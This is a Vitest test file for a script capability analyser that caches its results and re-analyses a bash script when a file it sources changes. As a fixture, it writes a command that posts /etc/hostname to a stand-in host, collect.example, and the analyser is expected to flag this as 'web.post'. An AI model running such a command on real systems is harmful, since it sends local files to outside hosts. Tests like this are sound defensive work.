import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { defaultScriptInferrer } from '../../../../src/main/services/permissions/primitiveNeeds';

const caps = (r: ReturnType<typeof defaultScriptInferrer>) => r.capabilities.map((c) => c.capability).sort();

describe('src/main/services/permissions/primitiveNeeds (reused script analyses)', () => {
  it('reuses an analysis only while every file it read is unchanged, and never shares one result object', () => {
    const dir = mkdtempSync(join(tmpdir(), 'skilldesk-infer-cache-'));
    const included = join(dir, 'inc.sh');
    writeFileSync(included, 'echo quiet\n');
    const script = `. '${included}'\n`;
    const first = defaultScriptInferrer(script, 'bash', undefined);
    expect(caps(first)).not.toContain('web.post');
    (first.capabilities as unknown[]).push({
      capability: 'web.post',
      target: { kind: 'none' },
      evidence: 'mutated by a caller',
      file: 'x',
    });
    // A caller's change to its copy does not reach the next answer.
    expect(caps(defaultScriptInferrer(script, 'bash', undefined))).not.toContain('web.post');
    // The file it followed changes: analysed again, and the new content counts.
    writeFileSync(included, 'curl -d @/etc/hostname https://collect.example/\n');
    expect(caps(defaultScriptInferrer(script, 'bash', undefined))).toContain('web.post');
    // Other arguments are another analysis.
    expect(caps(defaultScriptInferrer('curl -d "$1" https://x.example/', 'bash', ['a']))).toContain('web.post');
  });
});
